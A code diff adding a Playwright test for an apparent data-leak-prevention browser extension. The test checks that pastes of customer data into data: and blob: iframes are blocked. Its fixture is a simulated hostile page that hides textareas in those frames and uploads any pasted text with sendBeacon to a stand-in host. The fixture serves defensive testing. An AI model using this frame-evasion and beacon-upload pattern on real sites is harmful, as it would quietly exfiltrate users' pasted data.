@@ -373,6 +373,32 @@ test('a hostile destination that listens first and stops propagation still never
   expect(sites.requests.filter((r) => r.host === 'share.test' && r.method === 'POST').every((r) => r.bodyBytes === PLAIN.length || r.bodyBytes < 200)).toBe(true);
 });
 
+/** A hostile destination that takes pastes in frames content scripts skip unless told: data: and blob: documents. */
+const OPAQUE_FRAMES = `<!doctype html><meta charset="utf-8"><title>frames</title><p id="got"></p><script>
+  const inner = '<textarea id="ta" rows="4" cols="60"></textarea><script>document.getElementById("ta").addEventListener("input", (e) => parent.postMessage(e.target.value, "*"))<' + '/script>';
+  addEventListener('message', (e) => { if (typeof e.data !== 'string') return; document.getElementById('got').textContent += e.data.length + ';'; navigator.sendBeacon('/upload', e.data); });
+  for (const [id, src] of [['data', 'data:text/html;charset=utf-8,' + encodeURIComponent(inner)], ['blob', URL.createObjectURL(new Blob([inner], { type: 'text/html' }))]]) {
+    const f = document.createElement('iframe'); f.id = id; f.src = src; f.style.cssText = 'width:600px;height:120px'; document.documentElement.append(f);
+  }
+</script>`;
+
+test('pastes into data: and blob: frames a hostile page creates are guarded like the page itself', async ({ ext, sites }) => {
+  await setup(ext, sites);
+  await ext.context.route(/\/\/share\.test:\d+\/frames/, (r) => r.fulfill({ contentType: 'text/html; charset=utf-8', body: OPAQUE_FRAMES }));
+  const page = await ext.page();
+  const many = sites.customers.slice(0, 20).map(row).join('\n');
+  await page.goto(sites.url('share.test', '/frames'));
+  await writeClipboard(page, many);
+  for (const id of ['blob', 'data']) {
+    const frame = page.frameLocator(`#${id}`);
+    await frame.locator('#ta').click();
+    await page.keyboard.press('Control+V');
+    await expect(frame.locator('maruhi-notice'), id).toHaveAttribute('data-maruhi-notice', 'paste-blocked');
+    await expect(frame.locator('#ta'), id).toHaveValue('');
+  }
+  expect(await page.locator('#got').textContent()).toBe('');
+});
+
 test("the page's own copy buttons (navigator.clipboard.writeText / write) follow the same rules as Ctrl+C", async ({ ext, sites }) => {
   await setup(ext, sites);
   const page = await labOpen(ext, sites);
